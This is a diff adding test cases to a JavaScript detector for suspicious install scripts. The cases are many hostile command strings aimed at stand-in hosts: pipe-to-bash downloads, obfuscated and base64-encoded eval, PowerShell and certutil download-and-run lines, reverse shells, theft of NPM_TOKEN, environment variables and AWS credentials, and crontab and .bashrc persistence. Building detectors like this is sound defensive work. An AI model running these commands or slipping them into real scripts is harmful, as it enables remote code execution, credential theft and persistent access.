@@ -17,6 +17,27 @@ describe('suspicious scripts', () => {
       'node a.js && /usr/bin/curl https://x.example.test | sed s/a/b/ | /bin/bash -',
       'sh -c "curl https://x.example.test | bash" || true',
       'curl https://x.example.test | bash >/dev/null 2>&1 &',
+      'FOO=1 curl https://x.example.test | env BAR=2 bash',
+      'cross-env A=1 timeout 5 curl https://x.example.test | /usr/bin/env bash -e',
+      '\\curl -sSL https://x.example.test | bash',
+      `c=cur; \${c}l https://x.example.test | ba""sh`,
+      `c''url\${IFS}https://x.example.test|bash`,
+      'if true; then curl https://x.example.test | nohup bash & fi',
+      'concurrently "tsc -w" "curl https://x.example.test | bash"',
+    ],
+    'remote-code: curl … | tsx': ['curl https://x.example.test/i.ts | npx tsx -'],
+    'remote-code: node $(curl …)': [
+      'node <(curl -s https://x.example.test/i.js)',
+      'node -e "$(curl -s https://x.example.test/i.js)"',
+    ],
+    'remote-code: wget … && sh': ['wget https://x.example.test/a/i.sh && sh i.sh'],
+    'remote-code: npx https:…': ['npx -y https://x.example.test/a.tgz'],
+    'remote-code: pnpm git+https:…': ['pnpm dlx git+https://x.example.test/a.git'],
+    'remote-code: Invoke-WebRequest … ; ./…': [
+      'powershell -c "Invoke-WebRequest https://x.example.test/a.exe -OutFile a.exe; ./a.exe"',
+    ],
+    'remote-code: DownloadFile … ; Start-Process': [
+      "powershell -Command \"(New-Object Net.WebClient).DownloadFile('https://x.example.test/a.exe','a.exe'); Start-Process a.exe\"",
     ],
     'remote-code: wget … | sh': ['wget -qO- https://x.example.test/i.sh | sh'],
     'remote-code: curl … | node': [
@@ -34,6 +55,7 @@ describe('suspicious scripts', () => {
     'remote-code: curl … && sh': [
       'curl -o /tmp/i.sh https://x.example.test && sh /tmp/i.sh',
       'curl https://x.example.test > i.sh; sh ./i.sh',
+      'curl -LO https://x.example.test/a/i.sh && sh i.sh',
     ],
     'remote-code: wget … && ./…': ['wget https://x.example.test/a -O ./agent && chmod +x agent && ./agent'],
     'remote-code: Invoke-WebRequest … | Invoke-Expression': [
@@ -43,20 +65,39 @@ describe('suspicious scripts', () => {
     'remote-code: node -e …': [
       'node -e "fetch(\'https://x.example.test\').then(r=>r.text()).then(t=>eval(t))"',
       "node -e \"require('child_process').exec('curl https://x.example.test/a')\"",
+      'node --input-type=module -e "eval(await (await fetch(\'https://x.example.test\')).text())"',
     ],
     'encoded-code: node -e …': [
       `node -e "eval(Buffer.from('${BASE64}','base64').toString())"`,
       `node --eval "eval(atob('${BASE64}'))"`,
+      `node -e eval\\(atob\\('${BASE64}'\\)\\)`,
+      `node -e "require('vm').runInThisContext(Buffer.from('${BASE64}','base64'))"`,
+      `node -e "import('data:text/javascript;base64,${BASE64}')"`,
     ],
     'encoded-code: base64 -d … | sh': [
       `echo ${BASE64} | base64 -d | sh`,
       `echo '${BASE64}' | base64 --decode | sh`,
+      `echo ${BASE64}|base64 -di | sh`,
     ],
     'encoded-code: bash $(… base64 -d)': [`bash -c "$(echo ${BASE64} | base64 -d)"`],
     'encoded-code: powershell -EncodedCommand …': [
       `powershell -NoProfile -enc ${BASE64}`,
       `powershell.exe -w hidden -EncodedCommand ${BASE64}`,
     ],
+    'encoded-code: base64 -d … && sh': ['base64 -d payload.b64 > p.sh; sh p.sh'],
+    'encoded-code: node --import data:…': [`node --import "data:text/javascript;base64,${BASE64}" .`],
+    'remote-shell: socat': ['socat exec:bash tcp:x.example.test:1'],
+    'sends-data: curl … (a token)': [
+      'curl --data "$NPM_TOKEN" https://x.example.test',
+      `curl "https://x.example.test/?t=\${NPM_TOKEN}"`,
+    ],
+    'sends-data: node -e …': [
+      "node -e \"fetch('https://x.example.test',{method:'POST',body:JSON.stringify(process.env)})\"",
+    ],
+    'sends-data: … > /dev/tcp': ['cat ~/.aws/credentials > /dev/tcp/203.0.113.7/80'],
+    'system-tool: certutil …': ['certutil -urlcache -f https://x.example.test/a.exe a.exe && a.exe'],
+    'persistence: … | crontab': ['(crontab -l; echo "* * * * * a") | crontab -'],
+    'persistence: … >> ~/.bashrc': ['echo x >> ~/.bashrc'],
     'remote-shell: bash -i … /dev/tcp': ['bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'],
     'remote-shell: nc -e sh': ['nc 203.0.113.7 4444 -e /bin/sh'],
     'sends-data: curl … $(…)': [
@@ -124,6 +165,15 @@ describe('suspicious scripts', () => {
       'base64 -d key.b64 > key.pem',
       'NODE_TLS_REJECT_UNAUTHORIZED=1 node install.js',
       'node scripts/setup.mjs',
+      'npx --registry https://x.example.test/ only-allow pnpm',
+      'curl -s https://x.example.test/v | xargs node build.js',
+      'node build.js --version $(curl -s https://x.example.test/v)',
+      'curl -X POST -H "Authorization: Bearer $NPM_TOKEN" https://x.example.test/hook',
+      'echo $FILE | base64 -d > google.json && node sign.js google.json',
+      'wget -qO- https://x.example.test/v.json | jq -r .v > v.txt && node build.js',
+      'source ~/.bashrc && nvm use',
+      'node -e "fetch(\'http://localhost:3000/health\').then(r => process.exit(r.ok ? 0 : 1))"',
+      ': # curl https://x.example.test | bash',
       ':; (node ./preinstall.js > /dev/null 2>&1 || true)',
       '',
     ])
@@ -157,6 +207,11 @@ describe('suspicious scripts', () => {
       'iwr ',
       'cat ',
       '$(whoami',
+      '`',
+      '"$(',
+      '$a',
+      'a=1;',
+      "sh -c 'a b' ",
     ])
       suspiciousScript(`curl ${unit.repeat(20_000)}`);
     assert.ok(performance.now() - started < 2000);
